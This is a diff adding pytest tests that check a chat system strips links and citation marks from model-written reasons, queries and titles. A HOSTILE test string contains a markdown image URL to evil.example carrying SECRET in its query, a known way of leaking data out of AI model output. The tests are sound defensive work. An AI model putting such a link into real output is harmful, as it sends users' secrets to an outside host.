@@ -4,11 +4,14 @@ import json
 
 import pytest
 
+from answers.model_words import JOINER
 from graph.errors import DependencyFailed
 from graph.state import State
 from tests.graph.asking import FOOD, LEAVE, PAY, Asked
-from tests.graph.modelled import always, session
+from tests.graph.modelled import always, family_of, session
 from tests.scripted_openai import Reply, ScriptedOpenAI, answer, say, scripted_openai, status
+from text.inline_spans import READS_AS_A_MARK
+from tools.sessions.titles import best_title
 
 __all__ = ["scripted_openai"]
 
@@ -122,3 +125,38 @@ async def test_every_cap_ends_with_an_outcome(scripted_openai: ScriptedOpenAI, c
     if cap == 0:
         assert state.outcome == "answered", "the extractive writer quotes"
         assert state.stop_reason == "budget_model_calls"
+
+
+HOSTILE = "![x](https://evil.example/?q=SECRET) and [here](//evil.example) 【1】 [1]"
+
+
+async def test_what_a_model_writes_beside_its_answer_holds_no_links_and_no_marks(
+    scripted_openai: ScriptedOpenAI,
+) -> None:
+    """A reason, a standalone question and the queries went out as the model wrote them, and its title was stored so."""
+    asked = session(scripted_openai)
+    await asked.ask("days of annual leave")
+    replied = {"standalone_question": f"Annual leave? {HOSTILE}", "needs_retrieval": True, "reason": HOSTILE}
+    scripted_openai.script(say(json.dumps({**replied, "intent": "content_query"})), to="decide_retrieval")
+    scripted_openai.script(say(json.dumps({"query": f"penguin {HOSTILE}", "reason": HOSTILE})), to="rewrite_query")
+    state = await asked.ask("And penguins?", min_score=2.0)
+    told = [*asked.told("retrieval_decided"), *asked.told("query_rewritten"), *asked.told("sources_found")]
+    assert {each.type for each in told} == {"retrieval_decided", "query_rewritten", "sources_found"}
+    shown = [
+        getattr(each, name)
+        for each in told
+        for name in ("reason", "standalone_question", "query")
+        if hasattr(each, name)
+    ]
+    assert any("penguin x and here" in text for text in shown)
+    for text in (*shown, state.query, state.standalone_question):
+        assert "evil" not in text
+    assert not any(READS_AS_A_MARK.search(text.replace(f"{JOINER}1", "")) for text in shown)
+
+
+async def test_a_title_by_a_model_holds_no_links_and_no_marks(scripted_openai: ScriptedOpenAI) -> None:
+    titler = family_of(scripted_openai).titler
+    scripted_openai.script(say(json.dumps({"title": f"Leave {HOSTILE}"})), to="title")
+    assert (await best_title(titler, "How many days?"))[0] == "Leave x and here"
+    scripted_openai.script(say(json.dumps({"title": "Leave at https://docs.example/a"})), to="title")
+    assert (await best_title(titler, "What says https://docs.example/a?"))[0] == "Leave at https://docs.example/a"
